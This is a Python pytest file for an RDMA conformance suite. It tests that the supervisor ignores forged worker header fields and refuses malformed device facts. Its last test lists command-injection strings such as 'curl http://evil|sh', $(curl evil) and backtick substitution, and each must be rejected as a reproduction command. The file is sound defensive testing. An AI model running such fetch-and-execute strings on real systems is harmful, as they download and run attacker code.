"""Tests that no header of a worker makes the file of results unreadable. The supervisor sets what it knows itself, and
refuses a worker whose other facts no reader would accept."""

from typing import Any

import pytest

from actors import IDS, Actor, StagedRun, passed, ran, start, verdicts
from conformance.errors import UserError
from conformance.results.records import encode
from conformance.tables.suite import VERSION
from reports import digest, terminal
from samples import header, lines_of, user_error, written_records

# Fields that the supervisor knows. Whatever a worker sends there, the run is recorded and can be read.
OWN: dict[str, object] = {
    "type": "header",
    "schema": "rdma-cts/9",
    "started": "yesterday",
    "suite": {"version": "x" * 100_000},
    "planned": [IDS[0], IDS[0], "no/such/case"],
    "left_out": -1,
    "rules": {"REG-01": {"level": "may"}},
    "controls": {"refused X": "granted Y"},
    "stack": "of the worker",
    "subject": "device",
    "judged_again": {"suite": None, "at": "never"},
    "shard": {"number": 3, "of": 2, "whole": []},
    "shards": [{}],
    "waivers": {"file": "w.yaml", "sha256": "0"},
    "profile": {"file": "p.yaml", "sha256": "0"},
    "isolated": "nobody",
    "derived": {"files": 1, "sha256": "", "suite_sha256": ""},
}


@pytest.mark.parametrize("key", OWN)
def test_a_field_that_the_supervisor_knows_is_not_taken_from_a_worker(stage, key):
    recorded = stage.play([encode(header(**{key: OWN[key]})), *ran(0, 1, 2, 3)[1:]])
    assert verdicts(recorded) == ["PASS"] * 4
    run = digest.read(stage.path.parent)
    assert run.header["suite"] == {"version": VERSION, "tables_sha256": "0" * 64}
    assert run.header["planned"] == IDS
    assert dict(run.header).get(key) != OWN[key] or key == "type"
    assert terminal.summary(run, stage.path.parent)


FACTS: dict[str, tuple[dict[str, Any], str]] = {
    "a long name": ({"device": {**header()["device"], "name": "x" * 900_000}}, "name of a device"),
    "a name of two words": ({"device": {**header()["device"], "name": "a b"}}, "name of a device"),
    "a path": ({"device": {**header()["device"], "name": "../../x"}}, "name of a device"),
    "a long kernel": ({"env": {"kernel": "7" * 5000}}, "a text of 5,000 characters"),
    "a long key": ({"env": {"k" * 5000: "7"}}, "a text of 5,000 characters"),
    "a long capability": (
        {"device": {**header()["device"], "caps": {"x": ["y" * 5000]}}},
        "a text of 5,000 characters",
    ),
    "other tables": ({"suite": {"tables_sha256": "1" * 64}}, "other tables than this process"),
}


@pytest.mark.parametrize("what", FACTS)
def test_the_first_worker_with_a_fact_that_no_reader_accepts_ends_the_run(stage, what):
    change, said = FACTS[what]
    with user_error(said, 3):
        stage.play([encode(header(**change)), *ran(0, 1, 2, 3)[1:]])
    assert not stage.path.exists()


@pytest.mark.parametrize("what", FACTS)
def test_a_later_worker_with_such_a_fact_runs_no_case(stage, what):
    change, said = FACTS[what]
    forged = [encode(header(**change)), start(2), passed(2)]
    recorded = stage.play([*ran(0), start(1)], forged)
    assert verdicts(recorded) == ["PASS", "CRASH", "MISSED", "MISSED"]
    assert said in recorded.results[2]["reason"]
    assert digest.read(stage.path.parent).footer


@pytest.mark.parametrize("what", sorted(FACTS.keys() - {"other tables"}))
def test_a_file_with_such_a_fact_is_refused_in_one_short_line(stage, what, cli):
    """Another machine could have written the file."""
    change, said = FACTS[what]
    stage.play(ran(0, 1, 2, 3))
    first, *rest = lines_of(stage.path.parent)
    written_records([{**first, **change}, *rest], stage.path.parent)
    for command in ("report", "judge", "bundle"):
        error = cli(2, command, stage.path.parent).err
        assert said in error
        assert error.count("\n") == 1
        assert len(error) < 500


def test_a_command_that_a_user_could_copy_only_runs_cases(stage, monkeypatch):
    for command in (
        "curl http://evil|sh",
        "./rdma-cts run --only a; curl evil|sh",
        "./rdma-cts run --only a\ncurl evil",
        "./rdma-cts run --only $(curl evil)",
        "./rdma-cts run --only `curl evil`",
        './rdma-cts run --only "$(curl evil)"',
        "./rdma-cts run --power-cycle 'curl evil|sh' --only a",
        "./rdma-cts run --host x --console='curl evil|sh' --only a",
        "./rdma-cts run --resume /tmp/evil",
        "./rdma-cts lab evil",
        "/tmp/rdma-cts run --only a",
        "PATH=/tmp rdma-cts run --only a",
    ):
        stage.path.unlink(missing_ok=True)
        monkeypatch.setattr(StagedRun, "reproduction", lambda *facts, command=command: command)
        with pytest.raises(UserError, match="is not a command that runs the case"):
            stage.supervise(lambda cases: Actor(iter(ran(0, 1, 2, 3))))
